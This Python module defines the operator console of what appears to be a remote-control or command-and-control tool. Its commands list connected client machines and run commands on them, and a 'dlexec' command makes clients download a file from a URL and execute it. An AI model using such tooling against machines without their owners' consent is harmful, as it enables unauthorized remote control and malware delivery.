"""
Operator console commands.

Every command is a static descriptor dispatched by name or alias. Handlers
receive the console explicitly and return the text to display; they never
print on their own.
"""

import shlex
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterable, List, Optional, Tuple

from ..errors import CommandConfigError, NoMatch, TetherError
from .session import Session


@dataclass(frozen=True)
class Command:
    name: str
    handler: Callable[..., str]   # handler(console, args) -> text
    aliases: Tuple[str, ...] = field(default=())
    min_args: int = 0             # 0 means just the command
    help: str = ""
    usage: str = ""

    def description(self) -> str:
        """One help entry: name, aliases, help and usage."""
        text = self.name
        if self.aliases:
            text += f" (aliases: {', '.join(self.aliases)})"
        text += f": {self.help}"
        if self.usage:
            text += f"\n\t└─Usage: {self.usage}"
        return text


class CommandTable:
    def __init__(self, commands: Iterable[Command] = ()):
        self._commands: List[Command] = []
        self._index: Dict[str, Command] = {}
        for command in commands:
            self.register(command)

    def register(self, command: Command) -> None:
        """Add a command. Raises CommandConfigError on any name/alias clash."""
        keys = [k.lower() for k in (command.name,) + tuple(command.aliases)]
        if len(set(keys)) != len(keys):
            raise CommandConfigError(f"Command {command.name!r} repeats one of its own aliases")
        for key in keys:
            if key in self._index:
                raise CommandConfigError(
                    f"{key!r} of command {command.name!r} is already used by {self._index[key].name!r}")
        for key in keys:
            self._index[key] = command
        self._commands.append(command)

    def find(self, name: str) -> Optional[Command]:
        return self._index.get(name.lower())

    def __iter__(self):
        return iter(self._commands)

    def dispatch(self, console, line: str) -> str:
        """Tokenize an input line and run the matching command."""
        try:
            tokens = shlex.split(line)
        except ValueError as e:
            return f"[!] Could not parse input: {e}"
        if not tokens:
            return ""
        command = self.find(tokens[0])
        if command is None:
            return f"[!] Unknown command: {tokens[0]}. Type 'help' for options."
        args = tokens[1:]
        if len(args) < command.min_args:
            return f"[!] Usage: {command.usage or command.name}"
        return command.handler(console, args)


def for_each_session(console, capture: str, action: Callable[[Session], str]) -> str:
    """Apply `action` to every captured session, one report line per session."""
    try:
        sessions = console.resolver.resolve(capture)
    except NoMatch as e:
        return f"[!] {e}"
    lines = []
    for session in sessions:
        try:
            lines.append(action(session))
        except TetherError as e:
            lines.append(f"[!] {e}")
    return "\n".join(lines)


def format_sessions(rows: List[Tuple[Session, bool]]) -> str:
    if not rows:
        return "[i] No clients."
    lines = [f"{'ID':<5}{'Address':<22}{'Hostname':<20}{'User':<14}{'OS':<10}State"]
    for session, connected in rows:
        address = f"{session.addr[0]}:{session.addr[1]}"
        lines.append(
            f"{session.id:<5}{address:<22}{session.hostname:<20}"
            f"{session.metadata.get('user', 'unknown'):<14}"
            f"{session.metadata.get('os', 'unknown'):<10}"
            f"{'connected' if connected else 'disconnected'}")
    return "\n".join(lines)


def format_info(session_id: int, info: Dict) -> str:
    lines = [f"=== Client {session_id} ==="]
    width = max((len(k) for k in info), default=0) + 2
    for key in sorted(info):
        lines.append(f"{key + ':':<{width}}{info[key]}")
    return "\n".join(lines)


def cmd_help(console, args: List[str]) -> str:
    if args:  # describe one command
        command = console.commands.find(args[0])
        if command is None:
            return f"Unknown command: {args[0]}"
        return command.description()
    text = "Available commands:\n"
    text += "\n".join(c.description() for c in console.commands)
    return text + "\n\nCaptures: <id>, <id>-<id>, comma lists (1,3,5-7), or all"


def cmd_clear(console, args: List[str]) -> str:
    console.clear()
    return ""


def cmd_exit(console, args: List[str]) -> str:
    console.stop()
    return ""


def cmd_list(console, args: List[str]) -> str:
    return format_sessions(console.registry.list())


def cmd_ping(console, args: List[str]) -> str:
    def ping(session):
        rtt = console.rpc.ping(session)
        return f"[+] Client {session.id}: reply in {rtt * 1000:.1f} ms"
    return for_each_session(console, args[0], ping)


def cmd_run(console, args: List[str]) -> str:
    def run(session):
        handle = console.rpc.run_command(session, args[1], args[2:])
        return f"[+] Client {session.id}:\n{handle.output.rstrip()}"
    return for_each_session(console, args[0], run)


def cmd_background(console, args: List[str]) -> str:
    def start(session):
        handle = console.rpc.run_command(session, args[1], args[2:], background=True)
        return f"[i] Client {session.id}: job {handle.request_id} started"
    return for_each_session(console, args[0], start)


def cmd_dlexec(console, args: List[str]) -> str:
    def dlexec(session):
        output = console.rpc.download_and_execute(session, args[1], args[2:])
        return f"[+] Client {session.id}: executed {args[1]}\n{output.rstrip()}".rstrip()
    return for_each_session(console, args[0], dlexec)


def cmd_info(console, args: List[str]) -> str:
    return for_each_session(
        console, args[0],
        lambda session: format_info(session.id, console.rpc.get_system_info(session)))


def cmd_disconnect(console, args: List[str]) -> str:
    def disconnect(session):
        console.rpc.disconnect(session)
        return f"[i] Client {session.id} disconnected"
    return for_each_session(console, args[0], disconnect)


COMMANDS = (
    Command("help", cmd_help, ("h", "?"), 0,
            "Prints out help for all commands or a specified command", "help [command]"),
    Command("clear", cmd_clear, ("c", "cl"), 0, "Clears the screen"),
    Command("exit", cmd_exit, ("quit",), 0, "Exits the cli and stops the controller"),
    Command("list", cmd_list, ("ls", "clients"), 0, "Lists known clients"),
    Command("ping", cmd_ping, ("p",), 1, "Measures round-trip time to clients", "ping <capture>"),
    Command("run", cmd_run, ("exec", "x"), 2,
            "Runs a command on clients and waits for the output", "run <capture> <cmd> [args...]"),
    Command("background", cmd_background, ("bg",), 2,
            "Runs a command on clients without waiting", "bg <capture> <cmd> [args...]"),
    Command("dlexec", cmd_dlexec, ("download",), 2,
            "Downloads a file on clients and executes it", "dlexec <capture> <url> [args...]"),
    Command("info", cmd_info, ("sysinfo", "si"), 1, "Shows client system information", "info <capture>"),
    Command("disconnect", cmd_disconnect, ("kill",), 1,
            "Shuts clients down cleanly; they will not reconnect", "disconnect <capture>"),
)


def default_commands() -> CommandTable:
    return CommandTable(COMMANDS)
